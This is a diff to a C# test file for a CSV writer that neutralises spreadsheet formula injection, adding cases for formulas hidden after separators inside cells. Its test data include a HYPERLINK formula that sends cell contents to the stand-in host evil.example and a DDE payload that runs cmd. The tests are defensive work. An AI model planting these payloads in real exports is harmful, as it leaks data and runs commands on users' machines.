@@ -13,8 +13,6 @@ public class SpreadsheetCsvTests
     [InlineData("+1+1")]
     [InlineData("-1+1")]
     [InlineData("@SUM(1,1)")]
-    [InlineData("\t=1+1")]
-    [InlineData("\r=1+1")]
     [InlineData("=HYPERLINK(\"https://evil.example/?d=\"&A2&B2,\"Click\")")]
     [InlineData("=cmd|' /C calc'!A0")]
     public void Formula_payloads_get_a_leading_quote(string payload) =>
@@ -38,6 +36,53 @@ public class SpreadsheetCsvTests
     [InlineData("\0=1+1", "'=1+1")]
     public void Nul_characters_are_removed_before_the_check(string? cell, string expected) =>
         Assert.Equal(expected, SpreadsheetCsv.Neutralise(cell));
+
+    [Theory]
+    [InlineData("Acme;=1+5;x", "Acme;'=1+5;x")]
+    [InlineData("Acme,=1+5", "Acme,'=1+5")]
+    [InlineData("Acme\t+1", "Acme\t'+1")]
+    [InlineData("line one\n-1+1", "line one\n'-1+1")]
+    [InlineData("line one\r\n@SUM(1,1)", "line one\r\n'@SUM(1,1)")]
+    [InlineData("\t=1+1", "'\t'=1+1")]
+    [InlineData("\r=1+1", "'\r'=1+1")]
+    [InlineData("a;\t=1", "a;'\t'=1")]
+    [InlineData("a;\"=1\"", "a;'\"=1\"")]
+    [InlineData("=a;=b", "'=a;'=b")]
+    [InlineData("Curator; research, design", "Curator; research, design")]
+    [InlineData("a; =1", "a; =1")]
+    [InlineData("2024-03-15", "2024-03-15")]
+    public void A_formula_start_after_a_separator_inside_a_cell_gets_the_quote_too(string cell, string expected) =>
+        Assert.Equal(expected, SpreadsheetCsv.Neutralise(cell));
+
+    [Fact]
+    public void A_cell_holding_a_semicolon_or_a_tab_is_quoted()
+    {
+        var csv = Write(["Company", "Note"], [["Acme;=1+5;x", "a\tb"]]);
+
+        Assert.Equal("\uFEFFCompany,Note\r\n\"Acme;'=1+5;x\",\"a\tb\"\r\n", csv);
+    }
+
+    [Fact]
+    public void Python_splitting_on_commas_semicolons_or_tabs_finds_no_cell_that_starts_a_formula()
+    {
+        string[] payloads =
+        [
+            "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0",
+            "Acme;=1+5;x", "Acme,=1+5", "Acme\t=1+5", "a;+1", "a;-1", "a;@x", "a;\t=1", "a;\r=1", "a\t\t=1",
+            "a;\"=1\"", "a;\"\"=1", "a,\"=1\"", "a\t\"@x", "\"=1+1\"", "note\n=1+1", "note\r\n-1", "note\r+1", "a\n\"=1",
+            "=HYPERLINK(\"https://evil.example/?d=\"&A2&B2,\"Click; =1\")", "Ada", "", "plain; text, here",
+        ];
+        // Every payload in every column, beside every other, so a cell can begin at any seam between two of ours.
+        var rows = payloads.SelectMany(p => payloads.Select(q => (IReadOnlyList<string?>)[p, q, "x"])).ToList();
+
+        var read = PythonCsv.Read(Write(["A", "B", "C"], rows));
+
+        Assert.Empty(read.Formulas("comma"));
+        Assert.Empty(read.Formulas("semicolon"));
+        Assert.Empty(read.Formulas("tab"));
+        // Read with the comma, as written, each cell is the value as the spreadsheet shows it.
+        Assert.Equal(rows.Select(r => r.Select(SpreadsheetCsv.Neutralise).ToArray()), read.Rows("comma").Skip(1));
+    }
 
     [Fact]
     public void Output_is_rfc4180_with_crlf_quotes_only_where_needed_and_a_byte_order_mark()
